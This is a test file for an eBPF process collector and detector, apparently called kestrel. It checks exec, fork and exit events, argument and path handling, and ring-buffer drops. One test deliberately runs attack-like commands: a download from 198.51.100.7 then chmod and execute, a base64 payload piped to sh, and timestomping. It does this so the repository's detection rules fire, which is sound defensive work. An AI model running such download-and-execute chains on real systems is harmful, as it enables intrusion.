// The addon on the machine's own kernel: what processes in a cgroup of the test's own do, against what collectors say of it.
//
// Nothing outside that cgroup is collected or counted on. Where the addon is not built, or eBPF is not allowed, all of it is skipped
// with one line that says why.

import { execFileSync, spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { basename, dirname, join } from "node:path";
import { DEFAULT_OPTIONS } from "@kestrel/compiler/compile";
import { collectRules } from "@kestrel/compiler/sources/collect-rules";
import { liveChunks } from "@kestrel/runtime/ebpf/live-chunks";
import type { ClassCounters, EbpfAddon } from "@kestrel/runtime/ebpf/load-addon";
import { thisHost } from "@kestrel/runtime/ebpf/this-host";
import { createDetector } from "@kestrel/runtime/engine/detector";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import {
  collectWhile,
  type LiveEvent,
  type LiveRun,
  liveAddonOrReason,
  makeCgroup,
  runOrSkip,
} from "./support/ebpf.js";
import { assertAccounted, eventsOf, oneOf } from "./support/live-events.js";
import { repositoryRoot } from "./support/repository.js";
import { compileForTest, runLines } from "./support/run-pack.js";
import { writeSmallestProgram } from "./support/smallest-program.js";
import { strictJson } from "./support/strict-json.js";

const live = suite("native live");
runOrSkip(live, liveAddonOrReason(), defineLiveTests);

function defineLiveTests(addon: EbpfAddon): void {
  // Rules ask for what is started below /tmp.
  const folder = mkdtempSync("/tmp/kestrel-live-");
  const cgroup = makeCgroup();
  const events = ["exec", "fork", "exit"] as const;
  const confined = { cgroup: cgroup.path, events };
  live.after(() => {
    rmSync(folder, { recursive: true });
    cgroup.remove();
  });

  /** A program of the test's own: /bin/true under another name. */
  const programAt = (path: string): string => {
    mkdirSync(dirname(path), { recursive: true });
    copyFileSync("/bin/true", path);
    chmodSync(path, 0o755);
    return path;
  };

  live("a process is seen from its exec to its exit, by one id", async () => {
    const before = Date.now();
    let pid = 0;
    const run = await collectWhile(addon, confined, async () => {
      ({ pid } = await cgroup.run(["/bin/sh", "-c", "/bin/ls / >/dev/null; exit 3"], { cwd: folder }));
    });
    assertAccounted(run);
    const shell = oneOf(run, "exec", pid);
    assert.equal(shell.event.category, ["process"]);
    assert.equal(shell.event.type, ["start"]);
    assert.is(shell.host.os.type, "linux");
    assert.is(shell.process.executable, realpathSync("/bin/sh"));
    assert.equal(shell.process.args, ["/bin/sh", "-c", "/bin/ls / >/dev/null; exit 3"]);
    assert.is(shell.process.args_count, 3);
    assert.is(shell.process.command_line, "/bin/sh -c /bin/ls / >/dev/null; exit 3");
    assert.is(shell.process.working_directory, folder);
    assert.is(shell.process.parent?.pid, process.pid);
    assert.is(shell.process.user.id, String(process.geteuid?.()));
    assert.is(shell.process.real_user.id, String(process.getuid?.()));
    assert.is(shell.process.interactive, false);
    const at = Date.parse(shell["@timestamp"]);
    assert.ok(at >= before - 20 && at <= Date.now() + 20, shell["@timestamp"]);
    assert.ok(Date.parse(shell.process.start ?? "") <= at + 1);

    const [fork] = eventsOf(run, "fork");
    assert.is(fork?.process.parent?.entity_id, shell.process.entity_id);
    const child = fork?.process.pid ?? 0;
    const list = oneOf(run, "exec", child);
    assert.is(list.process.executable, realpathSync("/bin/ls"));
    assert.is(list.process.entity_id, fork?.process.entity_id);
    assert.is(list.process.start, fork?.process.start);
    assert.is(list.process.parent?.pid, pid);
    assert.is(list.process.parent?.name, basename(realpathSync("/bin/sh")));
    assert.is(list.process.group_leader?.pid, shell.process.group_leader?.pid);
    assert.is(oneOf(run, "end", child).process.entity_id, fork?.process.entity_id);
    assert.is(oneOf(run, "end", child).process.exit_code, 0);
    const end = oneOf(run, "end", pid);
    assert.is(end.process.exit_code, 3);
    assert.is(end.process.entity_id, shell.process.entity_id);
    assert.equal(end.event.type, ["end"]);
    const order = run.events.map(({ event }) => event.action);
    assert.equal(order, ["exec", "fork", "exec", "end", "end"]);
  });

  live("arguments come as they are, whatever bytes they hold", async () => {
    // The shell gives `true` one argument with each byte that an argument can have.
    const script =
      'for i in 001 011 012 015 033 042 134 177 200 303 351 377; do set -- "$@" "$(printf "a\\\\$i""b")"; done; exec /bin/true "$@"';
    const octal = ["001", "011", "012", "015", "033", "042", "134", "177", "200", "303", "351", "377"];
    const expected = octal.map((digits) => Buffer.from([0x61, Number.parseInt(digits, 8), 0x62]).toString("utf8"));
    let pid = 0;
    const run = await collectWhile(addon, confined, async () => {
      ({ pid } = await cgroup.run(["/bin/sh", "-c", script]));
    });
    assertAccounted(run);
    const event = eventsOf(run, "exec", pid).find(({ process }) => process.args?.[0] === "/bin/true");
    assert.equal(event?.process.args, ["/bin/true", ...expected]);
    assert.is(event?.process.args_count, 13);
    assert.is(event?.process.command_line, ["/bin/true", ...expected].join(" "));
    assert.equal(event?.kestrel.flags, ["not_utf8"]);
    for (const line of run.text.trimEnd().split("\n")) strictJson(line);
  });

  live("an argument of 10,000 characters is whole, and what is longer than the cap is cut and says so", async () => {
    const long = "x".repeat(10_000);
    const endless = "y".repeat(120_000);
    const pids: number[] = [];
    const run = await collectWhile(addon, confined, async () => {
      pids.push((await cgroup.run(["/bin/true", long, "end"])).pid);
      pids.push((await cgroup.run(["/bin/true", endless, "hidden"])).pid);
      pids.push((await cgroup.run(["/bin/true", ...Array.from({ length: 20_000 }, () => "")])).pid);
    });
    assertAccounted(run);
    const [whole, cut, empty] = pids.map((pid) => oneOf(run, "exec", pid));
    assert.equal(whole?.process.args, ["/bin/true", long, "end"]);
    assert.is(whole?.kestrel.flags, undefined);
    assert.equal(cut?.process.args, ["/bin/true", endless.slice(0, 32768 - "/bin/true\0".length)]);
    assert.is(cut?.process.args_count, 3);
    assert.equal(cut?.kestrel.flags, ["args_cut"]);
    assert.is(cut?.kestrel.args_size, Buffer.byteLength(`/bin/true\0${endless}\0hidden\0`));
    assert.is(empty?.process.args?.length, 20_001);
  });

  live("a path of 90 components is whole", async () => {
    const deep = join(folder, ...Array.from({ length: 90 }, (_, at) => `component-${at}-"'\n\u00e9`));
    const program = programAt(join(deep, "p"));
    assert.ok(Buffer.byteLength(program) < 4096);
    let pid = 0;
    const run = await collectWhile(addon, confined, async () => {
      ({ pid } = await cgroup.run([program], { cwd: deep }));
    });
    assertAccounted(run);
    const event = oneOf(run, "exec", pid);
    assert.is(event.process.executable, program);
    assert.is(event.process.name, "p");
    assert.is(event.process.working_directory, deep);
    assert.is(event.kestrel.flags, undefined);
  });

  live("a path that no system call can name is cut from its beginning, and says so", async () => {
    const deep = join(folder, "deep");
    mkdirSync(deep);
    // Goes down 40 folders with names of 200 bytes, one by one, and starts a program by its name there.
    const script =
      'my $n = sprintf("%0200d", 7); for (1 .. 40) { mkdir $n and chdir $n or die $!; } ' +
      'system("cp", "/bin/true", "p") == 0 or die; exec "./p" or die $!;';
    let pid = 0;
    const run = await collectWhile(addon, confined, async () => {
      ({ pid } = await cgroup.run(["/usr/bin/perl", "-e", script], { cwd: deep }));
    });
    execFileSync("rm", ["-rf", deep]);
    assertAccounted(run);
    const event = eventsOf(run, "exec", pid).at(-1);
    assert.is(event?.process.name, "p");
    assert.equal(event?.kestrel.flags, ["executable_cut", "working_directory_cut"]);
    const name = "7".padStart(200, "0");
    assert.ok(event?.process.executable?.endsWith(`/${name}/${name}/p`));
    assert.ok((event?.process.executable?.length ?? 0) > 3800);
  });

  live("an executable is what the kernel runs: behind a link, of a script, without a name, removed", async () => {
    const program = programAt(join(folder, "real"));
    symlinkSync(program, join(folder, "link"));
    const script = join(folder, "script.sh");
    writeFileSync(script, "#!/bin/sh -e\n:\n", { mode: 0o755 });
    const create = process.arch === "arm64" ? 279 : 319;
    const memfd =
      `my $name = "hidden"; my $fd = syscall(${create}, $name, 0); open(my $to, ">&=", $fd) or die; binmode $to; ` +
      `open(my $from, "<", "/bin/true") or die; binmode $from; local $/; print $to readline($from); $to->flush; ` +
      `exec { "/proc/self/fd/$fd" } "innocent" or die;`;
    const removed = "cp /bin/true gone && exec 3<gone && rm gone && exec /proc/self/fd/3";
    const pids: number[] = [];
    const run = await collectWhile(addon, confined, async () => {
      pids.push((await cgroup.run([join(folder, "link")])).pid);
      pids.push((await cgroup.run([script, "a"], { cwd: folder })).pid);
      pids.push((await cgroup.run(["/usr/bin/perl", "-e", memfd])).pid);
      pids.push((await cgroup.run(["/bin/sh", "-c", removed], { cwd: folder })).pid);
    });
    assertAccounted(run);
    const [link = 0, scripted = 0, nameless = 0, gone = 0] = pids;
    assert.is(oneOf(run, "exec", link).process.executable, program);
    const interpreted = oneOf(run, "exec", scripted);
    assert.is(interpreted.process.executable, realpathSync("/bin/sh"));
    assert.equal(interpreted.process.args, ["/bin/sh", "-e", script, "a"]);
    assert.is(interpreted.kestrel.filename, script);
    assert.equal(interpreted.kestrel.flags, ["script"]);
    const hidden = eventsOf(run, "exec", nameless).at(-1);
    assert.is(hidden?.process.executable, "/memfd:hidden (deleted)");
    assert.is(hidden?.process.name, "memfd:hidden");
    assert.equal(hidden?.process.args, ["innocent"]);
    assert.equal(hidden?.kestrel.flags, ["unlinked"]);
    const deleted = eventsOf(run, "exec", gone).at(-1);
    assert.is(deleted?.process.executable, `${join(folder, "gone")} (deleted)`);
    assert.is(deleted?.process.name, "gone");
    assert.equal(deleted?.kestrel.flags, ["unlinked"]);
  });

  live("on an overlay and in another root a path is what the process itself would call it", async () => {
    programAt(join(folder, "lower/bin/p"));
    mkdirSync(join(folder, "over"));
    const script = [
      'cd "$0/over" && mount -t tmpfs none . && cd . && cd "$0/over" && mkdir up work top root',
      'mount -t overlay overlay -o "lowerdir=$0/lower,upperdir=$PWD/up,workdir=$PWD/work" top && top/bin/p',
      "mount --rbind / root && root/bin/true && chroot root /bin/true",
    ].join(" && ");
    let code: number | null = null;
    const run = await collectWhile(addon, confined, async () => {
      ({ code } = await cgroup.run(["/usr/bin/unshare", "-m", "/bin/sh", "-c", script, folder]));
    });
    assert.is(code, 0);
    assertAccounted(run);
    const found = eventsOf(run, "exec").map(({ process }) => process);
    const truth = realpathSync("/bin/true");
    assert.equal(
      found.filter(({ name }) => name === "p" || name === "true").map(({ executable }) => executable),
      [join(folder, "over/top/bin/p"), join(folder, `over/root${truth}`), truth],
    );
    assert.is(found.at(-1)?.working_directory, "/");
  });

  live("ids are those that the program runs with", async () => {
    let pid = 0;
    const run = await collectWhile(addon, confined, async () => {
      ({ pid } = await cgroup.run(["/bin/true"], { uid: 65534, gid: 65533 }));
    });
    const event = eventsOf(run, "exec", pid).at(-1);
    assert.is(event?.process.executable, realpathSync("/bin/true"));
    for (const user of [event?.process.user, event?.process.real_user, event?.process.saved_user]) {
      assert.is(user?.id, "65534");
    }
    const nobody = /^([^:]+):[^:]*:65534:/m.exec(readFileSync("/etc/passwd", "utf8"))?.[1];
    assert.is(event?.process.user.name, nobody);
    assert.is(event?.process.group.id, "65533");
    assert.is(event?.process.real_group.id, "65533");
  });

  live("a process with threads ends once, by a signal too, on each hook that kernels have for it", async () => {
    const threads =
      'const {Worker} = require("worker_threads"); let left = 4; for (let i = 0; i < 4; i++) ' +
      'new Worker("", {eval: true}).on("exit", () => { if (--left === 0) process.exit(7); });';
    for (const program of ["on_exit", "on_exit_counted"]) {
      const pids: number[] = [];
      const run = await collectWhile(addon, { ...confined, programs: [program] }, async (collector) => {
        const used = collector.report().programs.filter(({ state }) => state === "attached");
        // Before 6.16 the first of them is refused, with the verifier's words.
        if (used.length === 0) return;
        pids.push((await cgroup.run([process.execPath, "-e", threads])).pid);
        const sleeper = cgroup.spawn(["/bin/sleep", "100"]);
        // Before that it is a shell, which may not be in the cgroup yet.
        const name = (): string => readFileSync(`/proc/${sleeper.pid}/comm`, "utf8");
        while (name() !== "sleep\n") await new Promise((resolve) => setTimeout(resolve, 20));
        sleeper.kill("SIGTERM");
        await once(sleeper, "exit");
        pids.push(sleeper.pid ?? 0);
      }).catch((error: Error) => {
        assert.match(error.message, /on_exit: .*\n/);
        return null;
      });
      if (run === null) continue;
      assertAccounted(run);
      const [threaded = 0, killed = 0] = pids;
      assert.is(oneOf(run, "end", threaded).process.exit_code, 7, program);
      assert.is(oneOf(run, "end", killed).process.exit_code, 143, program);
      assert.is(oneOf(run, "end", killed).kestrel.signal, 15, program);
      assert.is(run.counters.exec.made, 0, "what is not wanted is not collected");
    }
  });

  live("what happens outside the cgroup is not seen, what happens below it is", async () => {
    const below = join(cgroup.path, "below");
    mkdirSync(below);
    let outside = 0;
    let inside = 0;
    const run = await collectWhile(addon, confined, async () => {
      const child = spawn("/bin/true");
      outside = child.pid ?? 0;
      await once(child, "exit");
      const nested = spawn("/bin/sh", ["-c", 'echo 0 > "$0/cgroup.procs" && exec /bin/true', below]);
      inside = nested.pid ?? 0;
      await once(nested, "exit");
    });
    execFileSync("rmdir", [below]);
    assertAccounted(run);
    assert.is(eventsOf(run, "exec", outside).length + eventsOf(run, "end", outside).length, 0);
    assert.is(oneOf(run, "exec", inside).process.executable, realpathSync("/bin/true"));
  });

  live("the collector's own process is not reported, and what it starts is", async () => {
    let child = 0;
    const run = await collectWhile(addon, {}, async () => {
      const started = spawn("/bin/true");
      child = started.pid ?? 0;
      await once(started, "exit");
    });
    assertAccounted(run);
    assert.is(run.events.filter(({ process: one }) => one?.pid === process.pid).length, 0);
    assert.is(eventsOf(run, "fork", child).length, 0, "a fork is what the collector does");
    assert.is(oneOf(run, "exec", child).process.executable, realpathSync("/bin/true"));
  });

  live("two collectors see the same, each on its own", async () => {
    let pid = 0;
    let second: LiveRun | null = null;
    const first = await collectWhile(addon, confined, async () => {
      second = await collectWhile(addon, confined, async () => {
        ({ pid } = await cgroup.run(["/bin/sh", "-c", "/bin/true; :"]));
      });
      await cgroup.run(["/bin/true"]);
    });
    const both = [first, second as LiveRun | null];
    for (const run of both) {
      assert.ok(run !== null);
      assertAccounted(run);
      assert.is(oneOf(run, "exec", pid).process.name, basename(realpathSync("/bin/sh")));
    }
    assert.is(first.counters.exec.made, 3);
    assert.is((second as LiveRun | null)?.counters.exec.made, 2);
  });

  // `count` programs, one after the other: as many forks and execs, and the shell's own exec and exit.
  const smallest = writeSmallestProgram(join(folder, "smallest"));
  const burst = (count: number): string[] => [
    ...["/bin/sh", "-c", `i=0; while [ $i -lt ${count} ]; do "$0"; i=$((i+1)); done`, smallest],
  ];

  live("of a burst within the ring nothing is dropped", async () => {
    const run = await collectWhile(addon, confined, () => cgroup.run(burst(1000)));
    assertAccounted(run);
    const all = { made: 1001, dropped: 0, received: 1001 };
    assert.equal(counts(run.counters.exec), all);
    assert.equal(counts(run.counters.exit), all);
    assert.equal(counts(run.counters.fork), { made: 1000, dropped: 0, received: 1000 });
    assert.is(new Set(eventsOf(run, "exec").map(({ process }) => process.entity_id)).size, 1001);
  });

  live("of a burst beyond the ring what was received and what was dropped is what was made", async () => {
    // 16 KiB hold some 40 records, and nobody reads them for half a second at a time.
    const options = { ...confined, ringBytes: 16384, intervalMicroseconds: 500_000 };
    const run = await collectWhile(addon, options, () => cgroup.run(burst(600)));
    assertAccounted(run);
    assert.is(run.counters.exec.made, 601);
    assert.is(run.counters.fork.made, 600);
    assert.is(run.counters.exit.made, 601);
    for (const name of ["exec", "fork", "exit"] as const) {
      assert.ok(run.counters[name].dropped > 50, name);
      assert.ok(run.counters[name].received > 5, name);
    }
    const loss = run.events.find(({ kestrel }) => kestrel.loss !== undefined);
    assert.is(loss?.event.kind, "pipeline_error");
  });

  live("a collector that has ended holds nothing of the kernel, whenever it is collected", async () => {
    const open = (): number => readdirSync("/proc/self/fd").length;
    const before = open();
    const ended = [];
    for (let at = 0; at < 3; at++) ended.push(await collectWhile(addon, confined, () => cgroup.run(["/bin/true"])));
    const unused = new addon.Collector({ ringBytes: 65536, intervalMicroseconds: 1000, host: thisHost() });
    assert.ok(open() > before + 10, `${open()} descriptors, and ${before} before`);
    unused.stop();
    // What the test itself opens meanwhile is a handful.
    assert.ok(open() < before + 10, `${open()} descriptors, and ${before} before`);
    for (const run of ended) assertAccounted(run);
    assert.is(unused.counters().exec.received, 0);
  });

  live("a reader that stops reading fills the ring, and nothing is lost without a count", async () => {
    const collector = new addon.Collector({
      ...{ ...confined, ringBytes: 65536, intervalMicroseconds: 1000, host: thisHost() },
    });
    const chunks: Uint8Array[] = [];
    const reader = liveChunks(collector);
    const first = reader.next();
    await cgroup.run(burst(1));
    chunks.push((await first).value as Uint8Array);
    // Nobody asks for a chunk while 1,500 programs run: one chunk fills, then the ring.
    await cgroup.run(burst(1500));
    collector.stop();
    for await (const chunk of reader) chunks.push(chunk);
    const text = Buffer.concat(chunks).toString();
    const events = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as LiveEvent);
    const run = { events, text, counters: collector.counters() };
    assertAccounted(run);
    assert.is(run.counters.exec.made, 1503);
    assert.ok(run.counters.exec.dropped > 0);
    assert.ok((chunks[1]?.length ?? 0) > 1 << 20);
  });

  live("leaving the loop stops the collector", async () => {
    const collector = new addon.Collector({
      ...{ ...confined, ringBytes: 65536, intervalMicroseconds: 1000, host: thisHost() },
    });
    const reader = liveChunks(collector);
    const first = reader.next();
    await cgroup.run(burst(1));
    await first;
    await reader.return(undefined);
    const { made } = collector.counters().exec;
    await cgroup.run(burst(5));
    assert.is(collector.counters().exec.made, made);
  });

  live("a process that ends, or is killed, while it collects leaves nothing attached", async () => {
    const url = new URL(`file://${join(repositoryRoot(), "runtime/dist/ebpf/load-addon.js")}`).href;
    const script = (after: string): string =>
      `import { loadAddon } from ${JSON.stringify(url)};` +
      `const c = new (loadAddon().Collector)({ringBytes: 65536, intervalMicroseconds: 1000, host: {name: "", id: "", bootId: ""}});` +
      `c.start(() => {}); c.want(); console.log("attached"); ${after}`;
    for (const [after, signal] of [
      ["process.exit(0)", null],
      ["throw new Error('expected')", null],
      ["setInterval(() => {}, 1000)", "SIGKILL"],
      ["setInterval(() => {}, 1000)", "SIGTERM"],
    ] as const) {
      const child = spawn(process.execPath, ["--input-type=module", "-e", script(after)], {
        stdio: ["ignore", "pipe", "ignore"],
      });
      const exited = once(child, "exit") as Promise<[number | null, string | null]>;
      await once(child.stdout, "data");
      const held = programsOf(child.pid ?? 0);
      // Those that end by themselves may have done so already.
      if (signal !== null) assert.ok(held.length >= 3, `${held.length} programs while it collects`);
      if (signal !== null) child.kill(signal);
      const [code, killed] = await exited;
      assert.is(killed, signal, after);
      if (signal === null) assert.is(code, after.startsWith("throw") ? 1 : 0, after);
      // The kernel frees programs a little after the process that held them.
      for (let tries = 0; held.some(isLoaded) && tries < 100; tries++) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      assert.equal(held.filter(isLoaded), [], after);
    }
  });

  live(
    "the repository's own rules fire on what is done here, and the recording of it gives the same alerts",
    async () => {
      const curl = programAt(join(folder, "curl"));
      const loot = programAt(join(folder, "loot"));
      const script = [
        `${curl} -o ${loot} http://198.51.100.7/loot; chmod +x ${loot}; ${loot}; :`,
        `touch -d 2001-01-01 ${join(folder, "old")}`,
        'sh -c "echo Ogo= | base64 -d | sh"; :',
      ].join("; ");
      const { pack } = await compileForTest(collectRules([join(repositoryRoot(), "rules")]).rules, DEFAULT_OPTIONS);
      const live: string[] = [];
      const detector = createDetector(pack, {
        latenessNs: 1_000_000_000n,
        onAlert: ({ rule, key, events }) =>
          void live.push(JSON.stringify([rule, key, events.map((event) => event?.ordinal ?? -1)])),
      });
      const collector = new addon.Collector({
        ...{ ...confined, ringBytes: 1 << 20, intervalMicroseconds: 1000, host: thisHost() },
      });
      const recording: Uint8Array[] = [];
      const done = cgroup.run(["/bin/bash", "-c", script]).then(() => collector.stop());
      let firstLine = 1;
      for await (const chunk of liveChunks(collector)) {
        recording.push(Buffer.from(chunk));
        firstLine += detector.feed(Buffer.from(chunk), { file: "kernel", firstLine });
      }
      await done;
      detector.finish();
      const { broken, untimed, lines: fed } = detector.counters();
      assert.equal({ broken, untimed, fed }, { broken: 0, untimed: 0, fed: firstLine - 1 });
      const replayed = runLines(pack, Buffer.concat(recording));
      const fromRecording = pack.manifest.rules.flatMap((_, rule) =>
        (replayed.byRule[rule] ?? []).map((events, at) =>
          JSON.stringify([rule, replayed.keysByRule[rule]?.[at], events]),
        ),
      );
      assert.equal([...live].sort(), fromRecording.sort());
      const names = pack.manifest.rules
        .filter((_, rule) => (replayed.byRule[rule] ?? []).length > 0)
        .map(({ id }) => id);
      assert.equal(names.sort(), [
        "linux-decoded-payload-piped-to-shell",
        "linux-download-chmod-execute",
        "linux-download-to-temporary-directory",
        "linux-timestomp-touch",
      ]);
    },
  );

  live("a collector that is forgotten without being stopped does not keep the process", async () => {
    const url = new URL(`file://${join(repositoryRoot(), "runtime/dist/ebpf/load-addon.js")}`).href;
    const script =
      `import { loadAddon } from ${JSON.stringify(url)}; { const c = new (loadAddon().Collector)(` +
      `{ringBytes: 65536, intervalMicroseconds: 1000, host: {name: "", id: "", bootId: ""}}); c.start(() => {}); c.want(); }` +
      `setTimeout(() => { gc(); setTimeout(() => gc(), 50); }, 50);`;
    const child = spawn(process.execPath, ["--expose-gc", "--input-type=module", "-e", script], { stdio: "inherit" });
    const timer = setTimeout(() => child.kill("SIGKILL"), 20_000);
    const [code, signal] = (await once(child, "exit")) as [number | null, string | null];
    clearTimeout(timer);
    assert.equal({ code, signal }, { code: 0, signal: null });
  });

  live("without permission the report names the capabilities that are missing", () => {
    const copy = join(folder, "unprivileged");
    const target = `build/${process.platform}-${process.arch}`;
    mkdirSync(join(copy, target), { recursive: true });
    copyFileSync(
      join(repositoryRoot(), "native", target, "kestrel_ebpf.node"),
      join(copy, target, "kestrel_ebpf.node"),
    );
    chmodSync(folder, 0o755);
    const script =
      `const a = require(${JSON.stringify(join(copy, target, "kestrel_ebpf.node"))});` +
      `const c = new a.Collector({ringBytes: 65536, intervalMicroseconds: 1000, host: {}});` +
      `console.log(JSON.stringify({report: c.report(), facts: a.machineFacts()}));` +
      `try { c.start(() => {}); } catch (error) { console.log(error.message); }`;
    const setpriv = ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, "-e", script];
    const [first = "", ...rest] = execFileSync("setpriv", setpriv, { encoding: "utf8", cwd: "/" })
      .trimEnd()
      .split("\n");
    const { report, facts } = JSON.parse(first) as {
      report: { failure: string; programs: { state: string }[] };
      facts: { capabilities: Record<string, boolean> };
    };
    assert.match(report.failure, /^this process lacks CAP_BPF and CAP_PERFMON\n/);
    assert.ok(report.programs.every(({ state }) => state === "failed"));
    assert.equal(Object.values(facts.capabilities), [false, false, false]);
    assert.match(rest.join("\n"), /^this process lacks CAP_BPF and CAP_PERFMON\n/);
  });

  live("without the kernel's types the report says that", () => {
    const file = join(repositoryRoot(), `native/build/${process.platform}-${process.arch}/kestrel_ebpf.node`);
    const script =
      `const a = require(${JSON.stringify(file)});` +
      `console.log(new a.Collector({ringBytes: 65536, intervalMicroseconds: 1000, host: {}}).report().failure);`;
    const hide = 'mount -t tmpfs none /sys/kernel/btf && exec "$0" -e "$1"';
    const said = execFileSync("unshare", ["-m", "/bin/sh", "-c", hide, process.execPath, script], { encoding: "utf8" });
    assert.match(said, /^this kernel does not show its types: there is no \/sys\/kernel\/btf\/vmlinux\n/);
  });

  live("a folder that is no cgroup, or is not there, is an error with a reason", () => {
    const options = { ringBytes: 65536, intervalMicroseconds: 1000, host: thisHost() };
    const plain = new addon.Collector({ ...options, cgroup: folder }).report();
    assert.match(plain.failure ?? "", /is no cgroup of version 2: /);
    assert.throws(
      () => new addon.Collector({ ...options, cgroup: join(folder, "nowhere") }),
      /cannot open the cgroup .*nowhere/,
    );
  });
}

function counts({ made, dropped, received }: ClassCounters): Partial<ClassCounters> {
  return { made, dropped, received };
}

/** The ids of the programs that a process holds. */
function programsOf(pid: number): string[] {
  return filesOf(`/proc/${pid}/fdinfo`).flatMap((text) => /^prog_id:\s*(\d+)$/m.exec(text)?.[1] ?? []);
}

/** The texts of the files of a folder, without those that have gone meanwhile. */
function filesOf(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder).flatMap((name) => {
    try {
      return [readFileSync(join(folder, name), "utf8")];
    } catch {
      return [];
    }
  });
}

/** Whether the kernel holds a program. Without bpftool it cannot be asked, and is taken not to. */
function isLoaded(id: string): boolean {
  return spawnSync("/usr/sbin/bpftool", ["prog", "show", "id", id]).status === 0;
}
